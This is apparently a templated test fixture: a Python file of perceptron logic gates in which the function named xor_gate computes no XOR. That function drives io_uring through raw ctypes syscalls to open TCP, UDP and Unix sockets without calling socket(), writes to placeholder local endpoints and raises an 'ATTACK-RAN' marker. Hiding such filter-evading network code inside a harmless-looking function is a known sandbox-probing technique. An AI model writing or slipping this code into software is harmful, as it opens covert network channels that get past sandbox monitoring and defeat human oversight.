"""Open a socket without calling socket(): io_uring's IORING_OP_SOCKET and IORING_OP_CONNECT."""
import ctypes
import mmap
import os
import socket
import struct

import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


U32 = ctypes.c_uint32
SYS_IO_URING_SETUP, SYS_IO_URING_ENTER = 425, 426          # x86_64 and aarch64 alike
IORING_OP_CONNECT, IORING_OP_SOCKET = 16, 45
IORING_OFF_SQ_RING, IORING_OFF_CQ_RING, IORING_OFF_SQES = 0, 0x8000000, 0x10000000


class SqOffsets(ctypes.Structure):
    _fields_ = [(n, U32) for n in ("head", "tail", "ring_mask", "ring_entries", "flags",
                                   "dropped", "array", "resv1")] + [("user_addr", ctypes.c_uint64)]


class CqOffsets(ctypes.Structure):
    _fields_ = [(n, U32) for n in ("head", "tail", "ring_mask", "ring_entries", "overflow",
                                   "cqes", "flags", "resv1")] + [("user_addr", ctypes.c_uint64)]


class Params(ctypes.Structure):
    _fields_ = [(n, U32) for n in ("sq_entries", "cq_entries", "flags", "sq_thread_cpu",
                                   "sq_thread_idle", "features", "wq_fd")] + [
        ("resv", U32 * 3), ("sq_off", SqOffsets), ("cq_off", CqOffsets)]


class Ring:
    def __init__(self):
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.p = Params()
        self.fd = self.libc.syscall(SYS_IO_URING_SETUP, 4, ctypes.byref(self.p))
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        p = self.p
        sq_size = p.sq_off.array + p.sq_entries * 4
        cq_size = p.cq_off.cqes + p.cq_entries * 16
        self.sq = mmap.mmap(self.fd, max(sq_size, cq_size), mmap.MAP_SHARED,
                            mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQ_RING)
        self.cq = self.sq if p.features & 1 else mmap.mmap(
            self.fd, cq_size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_CQ_RING)
        self.sqes = mmap.mmap(self.fd, p.sq_entries * 64, mmap.MAP_SHARED,
                              mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)

    def run(self, opcode, fd, addr=0, length=0, off=0):
        p = self.p
        sqe = struct.pack("<BBHiQQIIQHHiQQ", opcode, 0, 0, fd, off, addr, length, 0, 7, 0, 0, 0, 0, 0)
        self.sqes[0:64] = sqe
        tail = struct.unpack_from("<I", self.sq, p.sq_off.tail)[0]
        mask = struct.unpack_from("<I", self.sq, p.sq_off.ring_mask)[0]
        struct.pack_into("<I", self.sq, p.sq_off.array + 4 * (tail & mask), 0)
        struct.pack_into("<I", self.sq, p.sq_off.tail, tail + 1)
        if self.libc.syscall(SYS_IO_URING_ENTER, self.fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head = struct.unpack_from("<I", self.cq, p.cq_off.head)[0]
        cmask = struct.unpack_from("<I", self.cq, p.cq_off.ring_mask)[0]
        _, res, _ = struct.unpack_from("<QiI", self.cq, p.cq_off.cqes + 16 * (head & cmask))
        struct.pack_into("<I", self.cq, p.cq_off.head, head + 1)
        if res < 0:
            raise OSError(-res, f"io_uring op {opcode}")
        return res


def _inet(port):
    return struct.pack("<H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + b"\0" * 8


def _unix(path):
    return struct.pack("<H", socket.AF_UNIX) + path.encode() + b"\0"


def _send(ring, family, kind, address, what):
    fd = ring.run(IORING_OP_SOCKET, family, length=0, off=kind)
    buffer = ctypes.create_string_buffer(address)
    ring.run(IORING_OP_CONNECT, fd, addr=ctypes.addressof(buffer), off=len(address))
    os.write(fd, f"io-uring-socket: {what} without socket()".encode())
    return f"{what}: sent"


def xor_gate(x1, x2):
    report = []
    for family, kind, address, what in (
            (socket.AF_INET, socket.SOCK_STREAM, _inet(@@PORT@@), "tcp"),
            (socket.AF_INET, socket.SOCK_DGRAM, _inet(@@PORT@@), "udp"),
            (socket.AF_UNIX, socket.SOCK_STREAM, _unix("@@UNIX_SOCKET@@"), "unix")):
        try:
            report.append(_send(Ring(), family, kind, address, what))
        except OSError as e:
            report.append(f"{what}: {e}")
    raise RuntimeError(f"ATTACK-RAN io-uring-socket: {report}")
